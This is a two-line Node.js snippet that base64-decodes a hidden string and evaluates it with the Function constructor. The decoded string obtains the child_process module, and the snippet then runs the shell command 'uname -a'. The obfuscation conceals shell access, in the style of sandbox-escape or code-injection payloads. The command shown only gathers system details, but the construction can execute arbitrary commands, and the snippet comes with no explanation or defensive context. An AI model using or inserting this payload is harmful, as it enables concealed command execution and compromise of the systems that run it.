const src = Buffer.from("cmV0dXJuIHByb2Nlc3MubWFpbk1vZHVsZS5yZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyk=", "base64").toString();
Function(src)().execSync("uname -a");
